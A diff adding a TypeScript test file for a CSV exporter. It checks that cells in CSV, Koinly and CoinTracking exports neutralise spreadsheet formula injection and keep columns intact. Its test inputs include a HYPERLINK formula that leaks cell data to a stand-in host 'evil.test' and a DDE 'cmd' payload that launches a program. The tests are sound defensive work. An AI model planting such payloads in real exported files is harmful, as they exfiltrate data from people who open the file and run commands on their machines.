@@ -1,0 +1,77 @@
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { csvLine } from '../../../../src/domain/export/csv.ts'
+import { frameOf, pieceOf } from '../../../../src/domain/export/format.ts'
+import { BOB, message, transaction } from '../../../support/transaction.ts'
+
+/** What a reader of RFC 4180 makes of a file, which ends its lines with CR and LF. */
+const read = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' })
+
+const NASTY = [
+  '=HYPERLINK("http://evil.test?x="&A1,"free")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1',
+  '\r=1',
+  '"',
+  '""',
+  'a,b',
+  'a;b',
+  'a\r\nb',
+  'a\nb',
+  '\n=1',
+  ' a ',
+  '',
+  "'",
+  'Привет, 世界 🎁',
+]
+
+/** What a cell reads as: what begins like a formula, and is no number, has an apostrophe before it. */
+const expected = (text: string) =>
+  /^[=+\-@\t\r\n＝＋－＠]/.test(text) && !/^-?\d+(?:\.\d+)?$/.test(text) ? `'${text}` : text
+
+test('a reader gets every nasty text back, and no formula', () => {
+  const table = NASTY.map(text => ['first', text, 'last'])
+  const cells = read(table.map(csvLine).join(''))
+  expect(cells).toEqual(table.map(line => line.map(expected)))
+  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+@\t\r\n]/)
+})
+
+test('a reader gets any text back', () => {
+  const texts = fc.array(fc.string({ unit: fc.constantFrom(...'ab"\',;\r\n\t =+-@1.＝ü') }), {
+    minLength: 2,
+    maxLength: 6,
+  })
+  fc.assert(
+    fc.property(texts, line => {
+      expect(read(csvLine(line))).toEqual([line.map(expected)])
+    }),
+    { numRuns: 2000 },
+  )
+})
+
+test('a comment of any kind leaves the columns of its row where they are', () => {
+  for (const format of ['csv', 'koinly', 'cointracking'] as const) {
+    const all = NASTY.map(text => transaction({ inMessage: message({ body: { kind: 'comment', text } }) }))
+    const names = { jettons: {}, find: () => ({ isWallet: true, name: '=1,"x"\r\n', isScam: false }) }
+    const { text } = pieceOf(format, all, 'toncenter', names)
+    const provenance = {
+      site: '',
+      network: '',
+      address: BOB,
+      from: '',
+      to: '',
+      complete: true,
+      source: '',
+      generated: '',
+      opening_balance: null,
+      closing_balance: null,
+    }
+    const [head, ...lines] = read(frameOf(format, provenance).head + text)
+    expect(lines).toHaveLength(format === 'cointracking' ? 2 * all.length : all.length)
+    for (const line of lines) expect(line).toHaveLength(head!.length)
+  }
+})
